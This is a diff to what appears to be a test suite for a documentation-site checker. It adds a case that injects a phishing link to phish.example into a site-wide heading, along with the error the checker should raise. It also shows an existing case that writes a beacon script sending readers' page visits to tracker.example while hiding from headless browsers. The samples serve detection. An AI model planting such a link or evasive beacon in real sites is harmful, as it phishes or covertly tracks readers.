@@ -468,6 +468,19 @@ ATTACKS = [
         ],
     ),
     Attack(
+        "interface-string-markup",
+        "Markup in one of the site's own words (a link in the feedback heading that every page shows)",
+        (
+            "replace",
+            "data/interface.yml",
+            "feedback_heading: {en: Something wrong or missing?,",
+            "feedback_heading: {en: '<a href=\"https://phish.example/\">Something wrong?</a>',",
+        ),
+        [
+            "data/interface.yml:42: entry 'feedback_heading' → en: contains HTML ('<a href=\"https://phish.example/\">') (interface strings are plain text, shown escaped; the templates add any markup around them)"
+        ],
+    ),
+    Attack(
         "asset-beacon",
         "A script in the site's assets that sends readers' visits to a tracker, hidden from headless browsers",
         ("write", "docs/beacon.js", "if (!navigator.webdriver) navigator.sendBeacon('https://tracker.example/b', location.href)\n"),
